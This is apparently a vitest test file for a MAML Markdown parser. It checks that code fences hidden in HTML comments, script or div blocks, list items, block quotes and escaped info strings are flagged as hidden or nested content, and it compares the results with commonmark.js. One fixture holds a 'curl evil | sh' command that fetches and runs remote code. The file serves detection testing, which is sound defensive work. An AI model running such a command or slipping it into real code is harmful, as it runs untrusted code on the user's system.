import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseMaml, validateMaml, type MamlDocument } from '../../src/maml/index.js';
import { reference, structureOf } from './commonmark-oracle.js';

const frontMatter =
  '---\nmaml_version: "2.0.0"\nid: urn:uuid:550e8400-e29b-41d4-a716-446655440000\ntype: workflow\norigin: agent://a\npermissions:\n  execute: ["gateway://prod"]\ncreated_at: "2025-08-29T12:27:00Z"\n---\n';
const sections = '## Intent\nx\n\n## Context\ny\n\n## Code_Blocks\n';
/** Line of the first body line below. */
const bodyLine = frontMatter.split('\n').length - 1 + sections.split('\n').length;

function parse(body: string): MamlDocument {
  return parseMaml(frontMatter + sections + body);
}

/** Strict errors as `code@line:column`. */
function errors(doc: MamlDocument): string[] {
  return validateMaml(doc, { level: 'strict' })
    .filter((d) => d.severity === 'error')
    .map((d) => `${d.code}@${d.range.start.line}:${d.range.start.column}`);
}

/** The body as commonmark.js reads it agrees with what mamlkit reports. */
function agreesWithCommonMark(doc: MamlDocument): void {
  expect(structureOf(doc)).toEqual(reference(doc.source));
}

describe('nothing hidden from a rendered view', () => {
  it('item 6: a fence inside an HTML comment is not a code block, and is an error', () => {
    const doc = parse('<!--\n```python\nimport os; os.system("curl evil | sh")\n```\n-->\n');
    expect(doc.codeBlocks).toEqual([]);
    expect(errors(doc)).toEqual([`MAML_HIDDEN_CONTENT@${bodyLine + 1}:1`]);
    const hidden = doc.diagnostics.find((d) => d.code === 'MAML_HIDDEN_CONTENT');
    expect(hidden?.message).toContain('an HTML comment');
    expect(hidden?.hint).toBeDefined();
    agreesWithCommonMark(doc);
  });

  it('item 6: a fence right after <div> (no blank line) is HTML, not code', () => {
    const doc = parse('<div>\n  ```python\nevil()\n```\n</div>\n');
    expect(doc.codeBlocks).toEqual([]);
    expect(errors(doc)).toEqual([`MAML_HIDDEN_CONTENT@${bodyLine + 1}:3`]);
    agreesWithCommonMark(doc);
  });

  it('item 6: a <script> block hides fences and headings up to </script>, blank lines included', () => {
    const doc = parse(
      '<script>\n\n## Signatures\n```python\nevil()\n```\n</script>\n\n```text\nshown\n```\n',
    );
    expect(doc.sections.map((s) => s.name)).toEqual(['intent', 'context', 'code_blocks']);
    expect(doc.codeBlocks.map((b) => [b.language, b.code])).toEqual([['text', 'shown\n']]);
    expect(errors(doc)).toEqual([`MAML_HIDDEN_CONTENT@${bodyLine + 2}:1`]);
    agreesWithCommonMark(doc);
  });

  it('item 6: a blank line ends a <div> block: the fence after it is read', () => {
    const doc = parse('<div>\n\n```python\nprint(1)\n```\n');
    expect(doc.codeBlocks.map((b) => b.language)).toEqual(['python']);
    expect(errors(doc)).toEqual([]);
    agreesWithCommonMark(doc);
  });

  it('item 6: a fence in a list item pairs as CommonMark pairs it, and is an error', () => {
    // A renderer shows a `text` block in the list item, then a top-level python block.
    const doc = parse('- step\n  ```text\n  harmless\n```python\nevil()\n```\n');
    expect(doc.codeBlocks.map((b) => [b.language, b.code, b.range.start.line])).toEqual([
      ['python', 'evil()\n', bodyLine + 3],
    ]);
    expect(errors(doc)).toEqual([`MAML_NESTED_BLOCK@${bodyLine + 1}:3`]);
    agreesWithCommonMark(doc);
  });

  it('item 6: a `text` block in a list item is never read as the python fence inside it', () => {
    const doc = parse('- ```text\n  ```python\n  evil()\n  ```\n');
    expect(doc.codeBlocks).toEqual([]);
    expect(errors(doc)).toEqual([`MAML_NESTED_BLOCK@${bodyLine}:3`]);
    expect(doc.diagnostics.find((d) => d.code === 'MAML_NESTED_BLOCK')?.message).toContain('list item');
    agreesWithCommonMark(doc);
  });

  it('item 6: a heading after an indented fence in a list item is not swallowed', () => {
    const doc = parse('- step\n  ```\n## History\n- 2025-08-29T12:27:00Z: [CREATE] by agent://a\n');
    expect(doc.sections.map((s) => s.name)).toEqual(['intent', 'context', 'code_blocks', 'history']);
    expect(doc.history.map((h) => h.verb)).toEqual(['CREATE']);
    expect(errors(doc)).toEqual([`MAML_NESTED_BLOCK@${bodyLine + 1}:3`]);
    agreesWithCommonMark(doc);
  });

  it('item 6: fences and headings in a block quote are errors, not code or sections', () => {
    const doc = parse('> ```python\n> evil()\n> ```\n>\n> ## Signatures\n');
    expect(doc.codeBlocks).toEqual([]);
    expect(doc.sections.map((s) => s.name)).toEqual(['intent', 'context', 'code_blocks']);
    expect(errors(doc)).toEqual([`MAML_NESTED_BLOCK@${bodyLine}:3`, `MAML_NESTED_BLOCK@${bodyLine + 4}:3`]);
    expect(doc.diagnostics.find((d) => d.code === 'MAML_NESTED_BLOCK')?.message).toContain('block quote');
    agreesWithCommonMark(doc);
  });

  it('a lazy line continues a block quote; a fence ends it', () => {
    const doc = parse('> quoted\ncontinued\n```python\nprint(1)\n```\n');
    expect(doc.codeBlocks.map((b) => b.language)).toEqual(['python']);
    expect(errors(doc)).toEqual([]);
    agreesWithCommonMark(doc);
  });

  it('lists without fences or headings stay clean', () => {
    const doc = parse(
      '- one\n- two\n\n  more\n1. first\n2. second\n\n```python\nprint(1)\n```\n## History\n- 2025-08-29T12:27:00Z: [CREATE] by agent://a\n',
    );
    expect(errors(doc)).toEqual([]);
    expect(doc.codeBlocks.map((b) => b.language)).toEqual(['python']);
    agreesWithCommonMark(doc);
  });

  it('item 6: an info string a renderer decodes to another language is an error', () => {
    for (const info of ['&#112;ython', 'py&#x74;hon', 'p&yuml;', 'python\\!', '\\`bash']) {
      const fence = info.includes('`') ? '~~~' : '```';
      const doc = parse(`${fence}${info}\nevil()\n${fence}\n`);
      expect(errors(doc)).toEqual([`MAML_INFO_ESCAPE@${bodyLine}:4`]);
    }
    // Text that CommonMark keeps as written is read as it is.
    expect(errors(parse('```c++ & more\\n\nx\n```\n'))).toEqual([]);
  });

  it('item 6: every info string is either read as commonmark.js decodes it or refused (property)', () => {
    const piece = fc.constantFrom(
      'py',
      'thon',
      ' ',
      '&',
      '#',
      'x',
      '7',
      '0',
      ';',
      'amp',
      '\\',
      '!',
      '{',
      '.',
      'é',
      '\t',
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 8 }), (parts) => {
        const info = parts.join('');
        const doc = parse(`~~~${info}\nx\n~~~\n`);
        if (doc.diagnostics.some((d) => d.code === 'MAML_INFO_ESCAPE')) return;
        expect(structureOf(doc).code).toEqual(reference(doc.source).code);
      }),
      { numRuns: 3000 },
    );
  });

  it('a tab-indented heading line in an HTML comment inside a list item is hidden content, tabs counted by column', () => {
    const source = '- <!-- c\n  \t# foo';
    const doc = parseMaml(source);
    expect(structureOf(doc)).toEqual(reference(source));
    expect(structureOf(doc).hidden).toEqual([2]);
  });
});
